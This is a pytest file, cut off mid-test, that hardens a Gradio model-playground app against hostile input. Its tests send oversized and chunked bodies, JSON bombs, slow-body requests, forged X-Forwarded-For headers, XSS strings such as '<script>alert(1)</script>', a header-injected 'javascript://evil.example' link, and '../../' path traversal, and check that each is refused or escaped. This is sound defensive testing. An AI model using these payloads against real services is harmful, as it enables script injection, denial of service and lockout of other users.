"""Hostile input through the running app (real server, gradio_client): every bad request is one clear
error naming its cause, nothing is fetched, and the server keeps answering other users at once."""
import collections
import dataclasses
import json
import os
import pathlib
import re
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid

import anyio
import pytest
from gradio_client import Client
from starlette.datastructures import QueryParams

from playground.ui import addresses, calls, files, inputs as page_inputs, playground_tab
from playground.errors import PlaygroundError
from playground.limits import MAX_NAME_CHARS, MAX_PROMPT_CHARS, MAX_SCHEMA_TEXT_CHARS, MAX_SYSTEM_CHARS
from playground.presets import Settings
from playground.ui.share import MAX_LINK_CHARS, from_query, share_url
from tests.test_hostile_constraints import listener  # noqa: F401  (fixture)


@pytest.fixture(scope="module")
def client(app_url):
    return Client(app_url, verbose=False)


def page_answers_quickly(url: str) -> bool:
    started = time.monotonic()
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.status == 200 and time.monotonic() - started < 30


def generate_error(client, *args) -> str:
    with pytest.raises(Exception) as info:
        client.predict(*args, api_name="/generate")
    return str(info.value)


@pytest.mark.parametrize("args, message", [
    (("x", "demo", 4, 0.0, 10**9, 0, "", "", False), "max new tokens must be between 1 and"),
    (("x", "demo", "abc", 0.0, 16, 0, "", "", False), "k must be a number"),
    ((123, "demo", 4, 0.0, 16, 0, "", "", False), "prompt must be a str"),
    (("x", "demo", 4, float("1e308"), 16, 0, "", "", False), "temperature must be 0"),
    (("x", "demo", 4, 1e-45, 16, 0, "", "", False), "temperature must be 0"),
    (("x", "demo", 4, -0.5, 16, 0, "", "", False), "-1: the preset's; got -0.5"),  # (what was sent, as k's)
    (("x", "demo", 4, 0.0, 16, 0, {"type": "string"}, "", False), "(the schema as JSON text: json.dumps(schema))"),
    (("x", "demo", 4, 0.0, 16, 2**63, "", "", False), "seed must be between"),
    (("x", "demo", 4, 0.0, 16, 10**4200, "", "", False), "seed must be between 0 and 2^63 - 1, got a number of 4,201 digits"),  # (echoed whole)
    (("x", "demo", 1e300, 0.0, 16, 0, "", "", False), "k must be between 1 and 16, got a number of 301 digits"),  # (echoed whole)
    (("x", "demo", 4, 0.0, 16, 0, "", "(x+)+[[:alpha:]&&[x]]", False), "read differently"),
    (("x", "demo", 4, 0.0, 16, 0, "false", "", False), "allows no value"),
    (("x", "demo", 4, 0.0, 16, 0, '{"type":"object","properties":{"x":{"$ref":"#"}},"required":["x"]}', "", False), "no finite instance"),
    (("x" * 30_000, "demo", 4, 0.0, 16, 0, "", "", False), "prompt's length"),
    (("x " * 6_000, "demo", 4, 0.0, 1024, 0, "", "", False), "context"),
    (("x", "demo", 4, 0.0, 16, 0, "", "", False, "/etc/passwd"), "unknown constraint backend"),  # was echoed
])
def test_bad_api_calls_are_clear_errors_and_the_server_stays_responsive(client, app_url, args, message):
    assert message in generate_error(client, *args)
    assert page_answers_quickly(app_url)


def test_a_lone_surrogate_a_client_sends_is_a_clear_error(app_url):
    """As the backend with no constraint, it reached the reply, which Gradio could not encode (the
    connection dropped, and the session's next call failed too). gradio_client cannot send one: the
    call goes as JSON text, escaped."""
    data = ["x", "demo", 4, 0.0, 16, 0, "", "", False, "\ud800", "", "", -1]  # (the older route takes all thirteen)
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps({"data": data}).encode())
    assert status == 200, text
    with urllib.request.urlopen(f"{app_url}gradio_api/call/generate/{json.loads(text)['event_id']}", timeout=60) as r:
        stream = r.read().decode()
    assert "event: error" in stream and "unknown constraint backend '\\\\ud800'" in stream, stream
    assert page_answers_quickly(app_url)


def test_api_refs_are_refused_without_any_request(client, listener):  # noqa: F811
    port, hits = listener
    schema = json.dumps({"type": "object", "properties": {"a": {"$ref": f"http://127.0.0.1:{port}/s.json"}}})
    assert "points outside the schema" in generate_error(client, "x", "demo", 4, 0.0, 16, 0, schema, "", False)
    time.sleep(0.3)
    assert hits == []


def test_sweeps_are_bounded(client):
    values = ",".join(str(1 + i % 8) for i in range(5000))
    inputs = page_inputs.inputs_from_settings(Settings.from_preset(page_inputs.PRESETS["demo"]))
    status, table, _, csv = client.predict("k", values, "", *inputs, api_name="/sweep")
    assert "number of values" in status and not isinstance(csv, str)  # refused with its reason, no file
    status, table, _, csv = client.predict("k", "2", "\n".join(f"p{i}" for i in range(100)), *inputs, api_name="/sweep")
    assert "number of prompts" in status and not isinstance(csv, str)
    many = page_inputs.inputs_from_settings(dataclasses.replace(Settings.from_preset(page_inputs.PRESETS["demo"]),
                                                                max_new_tokens=1024))
    status, table, _, csv = client.predict("k", ",".join(map(str, range(1, 9))), "\n".join(f"p{i}" for i in range(8)),
                                           *many, api_name="/sweep")  # 8 x 8 x 1024 tokens
    assert "tokens this experiment asks for" in status and not isinstance(csv, str)


def test_compare_drafts_measures_each_way_once_and_is_bounded(monkeypatch):
    """40 copies of one way of drafting were measured 40 times (an 8 MiB body holds 400,000)."""
    from playground.ui import experiments_tab
    settings = dataclasses.replace(Settings.from_preset(page_inputs.PRESETS["demo"]), max_new_tokens=8)
    monkeypatch.setattr(experiments_tab, "MAX_EXPERIMENT_TOKENS", 8)  # one way, one prompt, 8 tokens
    *_, (status, table, _, _) = experiments_tab.run_comparison(None, lambda *a, **k: None, ["prompt lookup"] * 40, "def f(",
                                                            *page_inputs.inputs_from_settings(settings))
    assert "done: 1 way of drafting" in status and len(table["data"]) == 1
    refused = list(experiments_tab.run_comparison(None, lambda *a, **k: None, ["prompt lookup", "draft model"], "def f(",
                                                  *page_inputs.inputs_from_settings(settings)))
    assert "tokens this experiment asks for (values x prompts x max new tokens) is 16, more than this host allows (8)" in refused[-1][0]
    bad = list(experiments_tab.run_comparison(None, lambda *a, **k: None, [{"x": 1}], "def f(",
                                              *page_inputs.inputs_from_settings(settings)))
    assert "pick at least one way of drafting" in bad[-1][0]


def test_wrong_types_on_the_run_endpoint_are_refused_with_the_value(client, app_url):
    inputs = page_inputs.inputs_from_settings(Settings.from_preset(page_inputs.PRESETS["demo"]))
    inputs[3] = "abc"  # k: the slider refuses it before the app sees it (Gradio's words were "Could not preprocess
    with pytest.raises(Exception, match="Draft length k takes a number from 1 to 16, not 'abc'"):  # ... a slider")
        client.predict(*inputs, api_name="/run")
    assert page_answers_quickly(app_url)


def test_share_link_uses_the_serving_host_and_refuses_overlong_links(client, app_url):
    settings = Settings.from_preset(page_inputs.PRESETS["demo"])
    settings.prompt = "def f():\n    return 1\n"
    url = client.predict(*page_inputs.inputs_from_settings(settings), api_name="/share_link")
    assert url.startswith(app_url) and "localhost:7860" not in url
    settings.prompt = "é" * 2000  # under the prompt limit, but 6 characters each in a link
    with pytest.raises(Exception, match="servers accept"):
        client.predict(*page_inputs.inputs_from_settings(settings), api_name="/share_link")
    assert MAX_LINK_CHARS < 16_000


def test_a_share_link_on_a_space_opens_its_page_on_the_hub(monkeypatch):
    """Spaces frame the app in the Space's page on the Hub, which hands its query to the app on load: a link to the
    bare *.hf.space address had no title, likes or Duplicate button (a Space host's review). SPACE_ID is the host's,
    yet read as an address only where it is one."""
    from types import SimpleNamespace
    request = SimpleNamespace(request=SimpleNamespace(base_url=urllib.parse.urlsplit("http://10.0.0.5:7860/")),
                              headers={"x-forwarded-host": "owner-my-space.hf.space", "x-forwarded-proto": "https"})
    monkeypatch.setenv("SPACE_ID", "owner/my-space")
    link = share_url(page_inputs.page_url(request), Settings.from_preset(page_inputs.PRESETS["demo"]))
    assert link.startswith("https://huggingface.co/spaces/owner/my-space?preset=demo&")
    assert from_query(dict(urllib.parse.parse_qsl(link.split("?")[1])), False)[0].preset == "demo"
    for odd in ("owner/my-space/../../evil", 'owner/x"><script>', "", "owner"):
        monkeypatch.setenv("SPACE_ID", odd)
        assert page_inputs.page_url(request) == "https://owner-my-space.hf.space/"


def test_a_share_link_takes_its_host_and_scheme_from_headers_only_when_they_are_an_address():
    """The link is built from the forwarded host and scheme (behind Spaces' proxy); a caller's own
    headers made `javascript://evil.example"><script>/?preset=...`."""
    from types import SimpleNamespace
    base = SimpleNamespace(base_url=urllib.parse.urlsplit("http://10.0.0.5:7860/"))

    def page(headers: dict) -> str:
        return page_inputs.page_url(SimpleNamespace(request=base, headers=headers))
    assert page({"x-forwarded-host": "user-space.hf.space", "x-forwarded-proto": "https", "host": "10.0.0.5:7860"}) \
        == "https://user-space.hf.space/"
    assert page({"x-forwarded-host": "a.example:8443, proxy.internal", "x-forwarded-proto": "https,http"}) \
        == "https://a.example:8443/"
    assert page({"host": "[::1]:7860"}) == "http://[::1]:7860/"
    assert page({"x-forwarded-host": 'evil.example"><script>alert(1)</script>', "x-forwarded-proto": "javascript",
                 "host": "10.0.0.5:7860"}) == "http://10.0.0.5:7860/"


def test_a_link_carries_every_seed_a_page_holds_and_refuses_the_others():
    """A run takes seeds to 2^63 - 1 and links read them to 2^31 - 1: a link made of seed 3,000,000,000
    was made without a word and opened on seed 0 with a notice (another run). A link now reads
    seeds to 2^53 (a page's number holds no more exactly), and is not made of a value it would drop."""
    settings = dataclasses.replace(Settings.from_preset(page_inputs.PRESETS["demo"]), seed=3_000_000_000, temperature=0.7)
    link = share_url("http://h/", settings)
    assert from_query(dict(urllib.parse.parse_qsl(link.split("?")[1])), False) == (settings, [])
    with pytest.raises(PlaygroundError, match="seed='1152921504606846976' cannot go into a link: must be between 0 and"):
        share_url("http://h/", dataclasses.replace(settings, seed=2**60))


def test_links_without_a_known_preset_fall_back_to_the_default_and_say_so():
    for params in ({"k": "999", "target": "evil/model", "foo": "bar"}, {"preset": "nope"}):
        settings, notices = from_query(params, allow_custom=False)
        default = Settings.from_preset(page_inputs.PRESETS[settings.preset])
        assert settings.target == default.target and settings.prompt == default.prompt
        assert any("preset" in n for n in notices)


def test_link_notices_and_constraint_messages_are_escaped():
    class Request:
        query_params = QueryParams({"preset": "demo", "<img src=x onerror=alert(1)>": "1", "k": "<script>alert(1)</script>"})
    notice = page_inputs.restore_from_url(Request())[-1]
    assert "\\<img" in notice and "\\<script" in notice and notice.count("<") == notice.count("\\<")
    message = page_inputs.check_constraint("JSON schema", '{"type": "<img src=x onerror=alert(1)>"}')
    assert "<img" not in message and "&lt;img" in message


def test_downloads_stay_within_their_folders_bound_and_carry_the_schema_minified(monkeypatch, tmp_path):
    """A schema typed with 1 MiB of tabs wrote 2 MB a run (and Gradio a copy): 4.5 GB an hour on 2
    cores, removed only after an hour. The schema is kept minified, and the folder bounded in bytes."""
    monkeypatch.setattr(files, "DOWNLOADS", tmp_path)
    monkeypatch.setattr(files, "DOWNLOADS_MAX_BYTES", 1_000)
    written = []
    for i in range(3):
        written.append(files.write_download(lambda f: f.write("x" * 600), f"d{i}-", ".json"))
        os.utime(written[-1], (time.time() - 10 + i,) * 2)  # oldest first
    assert [os.path.exists(path) for path in written] == [False, True, True]  # 1,200 bytes before the third
    monkeypatch.setattr(files, "DOWNLOADS_MAX_BYTES", 256 * 2**20)
    settings = Settings.from_preset(page_inputs.PRESETS["demo-json"])
    settings.max_new_tokens, settings.compare = 8, False
    schema = json.loads(settings.schema) | {"description": "\U0001F600" * 2_000}  # 12 bytes each, escaped twice
    settings.schema = json.dumps(schema, indent="\t" * 200)  # the same schema, padded
    final = list(playground_tab.run(None, lambda *a, **k: None, *page_inputs.inputs_from_settings(settings)))[-1]
    written = final[playground_tab.RUN_SLOTS.index("download")]["value"]
    saved = json.loads(open(written, encoding="utf-8").read())["settings"]
    assert json.loads(saved["schema"]) == schema and len(saved["schema"]) * 10 < len(settings.schema)
    assert os.path.getsize(written) < 4 * 2_000 + 20_000  # UTF-8 as written (escaped: 24,000 for the emoji)


def test_gradio_serves_a_download_as_written_without_a_copy_of_its_own(tmp_path):
    """Gradio copies a file it is handed into its cache folder unless it is there already; those
    copies were bounded by age alone (about 1 MB a run for a 256,000-character schema). Downloads are
    written inside that folder, so the folder's byte bound holds all of them; there any path is
    served, so each name is unguessable (128 random bits) and a prefix names no other folder."""
    from playground.ui.page import demo
    path = files.write_download(lambda f: f.write("{}"), "served-", ".json")
    assert demo.move_resource_to_block_cache(path) == os.path.abspath(path)
    assert re.fullmatch(r"served-[0-9a-f]{32}\.json", os.path.basename(path))
    elsewhere = tmp_path / "elsewhere.json"  # outside Gradio's folder: the copy it made
    elsewhere.write_text("{}")
    copy = demo.move_resource_to_block_cache(str(elsewhere))
    assert copy != str(elsewhere) and os.path.exists(copy)
    os.remove(copy)
    sneaky = files.write_download(lambda f: f.write("x"), "../../../sweep-", "/../x.csv")
    assert os.path.dirname(sneaky) == str(files.DOWNLOADS) and "/" not in os.path.basename(sneaky)


def test_downloads_are_pruned_and_a_failed_write_keeps_the_run(monkeypatch):
    old = files.write_download(lambda f: f.write("{}"), "old-", ".json")
    os.utime(old, (time.time() - 2 * files.DOWNLOAD_TTL_S,) * 2)
    fresh = files.write_download(lambda f: f.write("{}"), "new-", ".json")
    assert not os.path.exists(old) and os.path.exists(fresh)
    monkeypatch.setattr(files, "DOWNLOADS", files.DOWNLOADS / "missing" / "dir")
    settings = Settings.from_preset(page_inputs.PRESETS["demo"])
    settings.max_new_tokens, settings.compare = 16, False
    final = list(playground_tab.run(None, lambda *a, **k: None, *page_inputs.inputs_from_settings(settings)))[-1]
    named = dict(zip(playground_tab.RUN_SLOTS, final))
    assert named["text"] and named["download"]["value"] is None and named["download"]["interactive"] is False  # text
    assert "could not be written" in named["badge"]  # shown, no download


class Session:
    def __init__(self, key):
        self.session_hash = key


def test_stop_flags_and_run_tickets_no_job_reads_are_pruned(monkeypatch, tmp_path):
    """Stop on a made-up session left a file for good (500 calls, 500 files); they go after an hour."""
    monkeypatch.setattr(files, "STOPS", tmp_path)
    monkeypatch.setattr(files, "TIDY_EVERY", 1)
    files.request_stop(Session("made-up-1"))
    old = files.stop_flag(Session("made-up-1"))
    os.utime(old, (time.time() - 2 * files.DOWNLOAD_TTL_S,) * 2)
    files.request_stop(Session("made-up-2"))
    assert not old.exists() and files.stop_requested(Session("made-up-2"))
    files.forget_stop(Session("made-up-2"))
    files.new_ticket(Session("made-up-3"))  # Run's ticket likewise (a click on a made-up session)
    ticket = files.run_ticket(Session("made-up-3"))
    os.utime(files.stop_flag(Session("made-up-3")).with_name("made-up-3.run-ticket"), (time.time() - 2 * files.DOWNLOAD_TTL_S,) * 2)
    files.new_ticket(Session("made-up-4"))
    assert ticket and files.run_ticket(Session("made-up-3")) is None and files.run_ticket(Session("made-up-4"))
    files.new_ticket(Session("../../tmp/x"))  # no file outside the flag folder
    assert files.run_ticket(Session("../../tmp/x")) is None and not (files.STOPS / "../../tmp/x.run-ticket").exists()


def test_the_folders_of_servers_that_have_ended_are_removed_when_one_starts(tmp_path):
    """A server stopped by a signal left its download and stop-flag folders: 389 of each on one machine."""
    import subprocess
    ended = subprocess.Popen(["true"])
    ended.wait()
    for name in (f"p-{ended.pid}-abc", "p-x1y2z3", f"p-{os.getpid()}-lastboot", f"p-{os.getppid()}-parent"):
        (tmp_path / name).mkdir()  # (this process's id on a folder made before it: a container restarted)
        (tmp_path / name / "file").write_text("x")
    made = files.own_folder(tmp_path, "p-")
    assert made.name.startswith(f"p-{os.getpid()}-") and made.is_dir()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([made.name, f"p-{os.getppid()}-parent"])
    assert files.DOWNLOADS.name.startswith(f"playground-downloads-{os.getpid()}-")


def test_made_up_sessions_hold_a_bounded_number_of_stop_flags_read_now_and_then(monkeypatch, tmp_path):
    """Any caller can Stop (or Run) a made-up session: 8,778 of them in 10 min made each call 8x
    slower, every call reading the whole folder. Now the folder is read every TIDY_EVERY-th write
    and holds at most STOPS_MAX_FILES (the oldest go first), plus the writes since."""
    monkeypatch.setattr(files, "STOPS", tmp_path)
    monkeypatch.setattr(files, "STOPS_MAX_FILES", 10)
    monkeypatch.setattr(files, "TIDY_EVERY", 4)
    monkeypatch.setattr(files, "_written", 0)
    listed = []
    real_glob = pathlib.Path.glob
    monkeypatch.setattr(pathlib.Path, "glob", lambda self, pattern: listed.append(self) or real_glob(self, pattern))
    for n in range(40):
        files.request_stop(Session(f"made-up-{n}"))
        assert len(list(real_glob(tmp_path, "*"))) <= 10 + 4
    assert listed.count(tmp_path) == 2 * 40 // 4  # an age pass and a count pass, every 4th Stop
    assert files.stop_requested(Session("made-up-39"))  # the newest stay
    assert not files.stop_requested(Session("made-up-0"))


def test_request_bodies_are_bounded_before_gradio_reads_them(client, app_url):
    """Gradio reads a whole body and keeps its values in the session (a 100 MB /export body added
    ~334 MB, never given back): a body over MAX_REQUEST_BYTES is refused first, declared or chunked."""
    import http.client

    from playground.limits import MAX_REQUEST_BYTES
    url = urllib.parse.urlsplit(app_url)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
    conn.putrequest("POST", "/gradio_api/call/export")
    conn.putheader("Content-Type", "application/json")
    conn.putheader("Content-Length", str(MAX_REQUEST_BYTES + 1))  # refused on its header, before any byte is read
    conn.endheaders()
    response = conn.getresponse()
    assert response.status == 413 and b"limit" in response.read()
    conn.close()
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=30)  # no length: sent in chunks
    import app
    rest = b", null" * (len(next(f for f in app.demo.fns.values() if f.api_name == "export").inputs) - 14)  # (every value)
    for chunks, refused in ((9, True), (1, False)):  # 9 MiB refused; 1 MiB read (then an ordinary answer)
        conn.request("POST", "/gradio_api/call/export",  # (in the constraint: the input that takes the most)
                     body=iter([b'{"data": [' + b"null, " * 13 + b'"'] + [b"x" * 2**20] * chunks + [b'"' + rest + b']}']),
                     headers={"Content-Type": "application/json"}, encode_chunked=True)
        response = conn.getresponse()
        assert (response.status >= 400) == refused, (chunks, response.status)
        response.read()
        conn.close()
    assert page_answers_quickly(app_url)
    assert "vllm serve" in client.predict(*page_inputs.inputs_from_settings(
        Settings.from_preset(page_inputs.PRESETS["qwen2.5-7b"])), api_name="/export")[1]  # a normal body still passes


def notice_function() -> int:
    """The fn_index of the callback that takes the link notice (a Markdown component) as its input."""
    from playground.ui import page
    return next(i for i, fn in page.demo.fns.items() if fn.inputs == [page.ui.link_notice])


def test_a_value_past_its_bound_is_refused_before_gradio_keeps_it(client, app_url):
    """Gradio keeps a session's last value of every input, before the function's checks: three
    refused 7 MiB values a session (a prompt, a Markdown and an HTML input, in three calls) held
    2.6 GiB over 128 sessions. A value is at most calls.VALUE_CHARS, or past the page's own limit
    for the long texts (a prompt: 4x), so that a text too long still gets the page's message."""
    from playground.ui import serving
    values = page_inputs.inputs_from_settings(Settings.from_preset(page_inputs.PRESETS["demo"]))
    cases = ((1, "x" * (calls.VALUE_CHARS + 1), "'target' is 16385 characters, more than this host reads in one value (16384)"),
             (9, "x" * (4 * MAX_PROMPT_CHARS + 1), f"'prompt' is {4 * MAX_PROMPT_CHARS + 1} characters, more than this host allows ({MAX_PROMPT_CHARS})"))
    for index, value, said in cases:
        status, text = post(app_url, "/gradio_api/call/export", json.dumps({"data": values[:index] + [value]}).encode())
        assert status == 413 and said in text, (status, text)
    api = ["x", "demo", 0, -1.0, 0, 0]  # /generate's inputs before its schema: named by their parameters
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps({"data": api + ["{" * 2**21]}).encode())
    assert status == 413 and f"schema is 2097152 characters, more than this host allows ({MAX_SCHEMA_TEXT_CHARS})" in text, (status, text)
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps({"data": api + ["{" * 50_000, "", False, "",
                                                                                      "", "", -1]}).encode())  # (all 13)
    assert status == 200 and "event_id" in text, (status, text)  # a long schema still reaches the run's own checks
    for body, said in (({"prompt": "x", "schema": "{" * 2**21}, f"schema is 2097152 characters, more than this host "
                         f"allows ({MAX_SCHEMA_TEXT_CHARS})"), ({"prompt": "x", "surplus": "x" * 2**21}, "a value is 2097152")):
        status, text = post(app_url, "/gradio_api/call/v2/generate", json.dumps(body).encode())  # the inputs by name
        assert status == 413 and said in text, (status, text)  # (the README's curl example's route)
    status, text = post(app_url, "/gradio_api/call/v2/export", json.dumps({"prompt": "x" * (4 * MAX_PROMPT_CHARS + 1)}).encode())
    assert status == 413 and f"'prompt' is {4 * MAX_PROMPT_CHARS + 1} characters" in text, (status, text)
    notice = notice_function()  # a Markdown input
    status, text = post(app_url, "/gradio_api/run/predict", json.dumps(
        {"data": ["<b>x</b>" * 2**17], "fn_index": notice, "session_hash": "abc"}).encode())
    assert status == 413 and "more than this host reads in one value (16384)" in text, (status, text)
    for name, value in (("constraint", "a" * 1_400_000), ("tree", "t" * 20_000)):  # (the label was cut mid-phrase:
        # "Schema, pattern or grammar (Tab writes spaces here; Esc, the is 1400000 characters"; an API review)
        status, text = post(app_url, "/gradio_api/call/v2/run", json.dumps({name: value}).encode())
        assert status == 413 and json.loads(text)["detail"].startswith(f"'{name}' is {len(value)} characters"), (status, text)
    notes = client.predict(*values[:9], "x" * (MAX_PROMPT_CHARS + 1), *values[10:], api_name="/export")[0]
    assert f"length (characters) is {MAX_PROMPT_CHARS + 1}" in notes  # past the limit, within the bound: the page's words
    assert page_answers_quickly(app_url)


def test_calls_that_slipped_past_the_bounds_are_refused(app_url):
    """An fn_index of "43" or 43.0 (Gradio reads both as 43) was checked against no function's
    bounds: two 8 MiB values a session, 1 GB over 64 sessions. 8 MiB of `[{}, {}, ...]` became
    600 MB of Python objects in Gradio's parses; 7.7 MiB of numbers held every thread 1.3 s. A call naming no function of the page has every
    value at most VALUE_CHARS."""
    from playground.ui import serving
    notice = notice_function()
    for index in (str(notice), float(notice), True):
        status, text = post(app_url, "/gradio_api/run/predict", json.dumps(
            {"data": ["x" * (calls.VALUE_CHARS + 1)], "fn_index": index, "session_hash": "abc"}).encode())
        assert status == 400 and "fn_index must be a whole number" in text, (index, status, text)
    status, text = post(app_url, "/gradio_api/run/predict", json.dumps(
        {"data": ["x" * (calls.VALUE_CHARS + 1)], "fn_index": 10**6, "session_hash": "abc"}).encode())
    assert status == 413 and "a value is 16385 characters" in text, (status, text)
    bomb = json.dumps({"data": [[{}] * 2 * calls.MAX_CONTAINERS + ["[{" * 5000]], "fn_index": notice})
    status, text = post(app_url, "/gradio_api/run/predict", bomb.encode())
    assert status == 413 and f"holds over {calls.MAX_CONTAINERS} JSON objects and arrays" in text, (status, text)
    numbers = json.dumps({"data": [[1e308] * (calls.MAX_ITEMS + 1)], "fn_index": notice})  # (7.7 MiB of them held
    status, text = post(app_url, "/gradio_api/run/predict", numbers.encode())  # the interpreter lock 1.3 s a call)
    assert status == 413 and f"holds over {calls.MAX_ITEMS} values, more than this host reads" in text, (status, text)
    with pytest.raises(urllib.error.HTTPError) as refused:  # idle, each held the CPU polling every 50 ms
        urllib.request.urlopen(app_url + "gradio_api/dev/reload", timeout=30)
    assert refused.value.code == 403
    from playground.ui import page  # no component has server functions: Gradio's route for them answered a
    assert not any(c.server_fns for c in page.demo.blocks.values() if hasattr(c, "server_fns"))  # made-up call
    for path in ("/gradio_api/component_server", "/gradio_api/component_server/"):  # with 500 and a traceback
        status, text = post(app_url, path, json.dumps({"session_hash": "s1", "component_id": 99999, "fn_name": "x",
                                                       "data": None}).encode())
        assert status == 403 and "no component on this page has server functions" in text, (path, status, text)
    assert page_answers_quickly(app_url)


def test_a_lone_surrogates_bytes_in_a_body_skip_no_check(app_url):
    """The guard read a body as strict UTF-8 where Starlette passes surrogates: the bytes of one
    lone surrogate anywhere (here the session hash) let a 200,000-character value, 50,000 objects
    or a file reference through (Gradio went on to fetch the file's URL)."""
    from playground.ui import serving
    notice = notice_function()
    file = {"path": "https://example.com/x.bin", "meta": {"_type": "gradio.FileData"}}
    for data, status in ((["x" * (calls.VALUE_CHARS + 1)], 413), ([[{}] * 50_000], 413), ([file], 403)):
        body = json.dumps({"data": data, "fn_index": notice, "session_hash": "SURROGATE"}).encode()
        got, text = post(app_url, "/gradio_api/run/predict", body.replace(b"SURROGATE", b"\xed\xa0\x80"))
        assert got == status, (got, text[:200])


def test_containers_are_counted_in_one_pass(monkeypatch):
    """A match was tried at every quote: an unterminated string of escaped quotes made the count
    quadratic (32 K characters took 2.9 s, 8 MiB about two days, holding the parsing lock)."""
    from types import SimpleNamespace
    assert calls._outside_strings('{"a": "{[\\"", "b": [{}, "]"], "c": "\\\\"}', 10, 10) == (3, 9)
    assert calls._outside_strings('[' + '"", ' * 10**6 + '""]', 10, 10) == (1, 11)  # stops once past a most
    tried, string = [], calls.STRING
    monkeypatch.setattr(calls, "STRING", SimpleNamespace(match=lambda text, at: tried.append(at) or string.match(text, at)))
    assert calls._outside_strings('[{"a": 1}, "' + '\\"' * 100_000 + "]", 10, 10) == (2, 2) and tried == [2, 11]


def test_one_address_holds_a_bounded_number_of_requests_open(app_url, monkeypatch):
    """A stream lasts as long as its caller keeps it: 20,000 idle heartbeat streams from one address
    took every file the server may open, and the page answered no one. One address (here the first
    of X-Forwarded-For: the peer is this host) has at most OPEN_PER_CLIENT open; others go on."""
    import socket
    from playground.ui import serving
    monkeypatch.setattr(serving, "OPEN_PER_CLIENT", 4)
    url = urllib.parse.urlsplit(app_url)
    forged = "203.0.113.9"
    held = []
    try:
        for n in range(4):
            conn = socket.create_connection((url.hostname, url.port), timeout=30)
            conn.sendall(f"GET /gradio_api/heartbeat/held{n} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {forged}\r\n\r\n".encode())
            held.append(conn)
        deadline = time.monotonic() + 30
        while serving._open[forged] < 4 and time.monotonic() < deadline:
            time.sleep(0.05)
        request = urllib.request.Request(app_url + "gradio_api/queue/status", headers={"X-Forwarded-For": forged})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=30)
        assert refused.value.code == 429 and b"requests open" in refused.value.read()
        assert page_answers_quickly(app_url)  # another address
    finally:
        for conn in held:
            conn.close()
    deadline = time.monotonic() + 30
    while serving._open[forged] and time.monotonic() < deadline:
        time.sleep(0.05)
    with urllib.request.urlopen(request, timeout=30) as response:
        assert response.status == 200


def test_a_body_declared_and_not_sent_is_given_up(app_url, monkeypatch):
    """256 POSTs declaring a body and never sending it held an address's share of open requests (a forged
    X-Forwarded-For locked a chosen address out, 429) for as long as their sockets lasted: a red-team pass."""
    import socket
    from playground.ui import serving
    monkeypatch.setattr(serving, "BODY_SECONDS", 1)
    url = urllib.parse.urlsplit(app_url)
    with socket.create_connection((url.hostname, url.port), timeout=30) as conn:
        conn.sendall(b"POST /gradio_api/queue/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 100\r\nX-Forwarded-For: 203.0.113.19\r\n\r\n{")
        answer = b""
        while b"body was not sent" not in answer and (part := conn.recv(4096)):  # (the head and the body can
            answer += part  # come in two reads: one read failed a full suite under load)
    answer = answer.decode(errors="replace")
    assert answer.startswith("HTTP/1.1 408") and "body was not sent within 1 s" in answer
    deadline = time.monotonic() + 5  # (the server lets go of it as it ends the request: just after answering)
    while serving._open["203.0.113.19"] and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not serving._open["203.0.113.19"]


def test_long_bodies_are_read_a_bounded_number_at_a_time(app_url, monkeypatch):
    """128 bodies of 8 MiB sent at once from one address took the server from 0.6 to 5.5 GB, each held
    whole (and its text, up to 4 bytes a character) while it waited to be checked (an audit). Bodies
    past VALUE_CHARS take a place before they are read: at most LARGE_PER_CLIENT from one address, at
    most LARGE_BODIES in all; the next waits, unread, until one is let go, then is answered."""
    import socket

    import anyio
    from playground.ui import serving
    monkeypatch.setattr(serving, "LARGE_PER_CLIENT", 2)
    monkeypatch.setattr(serving, "_long_places", anyio.Semaphore(3))
    url = urllib.parse.urlsplit(app_url)
    length = calls.VALUE_CHARS + 100
    body = ('{"data": [], "fn_index": 999999, "session_hash": "abc"}').ljust(length).encode()  # (refused once read)

    def begun(address: str, whole: bool) -> socket.socket:
        conn = socket.create_connection((url.hostname, url.port), timeout=30)
        conn.sendall(("POST /gradio_api/queue/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      f"Content-Length: {length}\r\nX-Forwarded-For: {address}\r\n\r\n").encode()
                     + (body if whole else b"{"))
        return conn

    def until(done) -> bool:
        deadline = time.monotonic() + 30
        while not done() and time.monotonic() < deadline:
            time.sleep(0.05)
        return done()

    def unanswered(conn: socket.socket) -> bool:
        conn.settimeout(0.5)
        try:
            return not conn.recv(4096)  # (b"": closed)
        except socket.timeout:
            return True
        finally:
            conn.settimeout(30)

    def answered(conn: socket.socket) -> bool:
        with conn:
            return conn.recv(4096).startswith(b"HTTP/1.1 ")
    a, b, c = "203.0.113.31", "198.51.100.31", "198.51.100.32"
    held = [begun(a, whole=False) for _ in range(2)]  # two bodies begun, not finished: this address's two places
    try:
        assert until(lambda: serving._long_bodies[a] == 2)
        third = begun(a, whole=True)  # waits for one of its own, though a place is free in all
        assert until(lambda: serving._long_bodies[a] == 3) and unanswered(third)
        assert answered(begun(b, whole=True))  # another address: the free place
        held.append(begun(b, whole=False))  # now every place is held
        assert until(lambda: serving._long_bodies[b] == 1)
        waiting = begun(c, whole=True)
        assert until(lambda: serving._long_bodies[c] == 1) and unanswered(waiting)
    finally:
        for conn in held:
            conn.close()
    assert answered(third) and answered(waiting)  # places let go: read, checked, answered
    assert until(lambda: not serving._long_bodies and not serving._own_places)


def test_a_long_body_that_waited_in_vain_lets_go_of_what_it_took(app_url, monkeypatch):
    """A wait for a place that ended in 503 kept what it had taken (its count, and one of its address's
    own places): four such waits left an address no place for any long body until a restart (a review)."""
    import socket

    import anyio
    from playground.ui import serving
    monkeypatch.setattr(serving, "BODY_SECONDS", 1)
    monkeypatch.setattr(serving, "_long_places", anyio.Semaphore(0))  # every place held elsewhere
    url = urllib.parse.urlsplit(app_url)
    with socket.create_connection((url.hostname, url.port), timeout=30) as waiter:
        waiter.sendall(("POST /gradio_api/queue/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
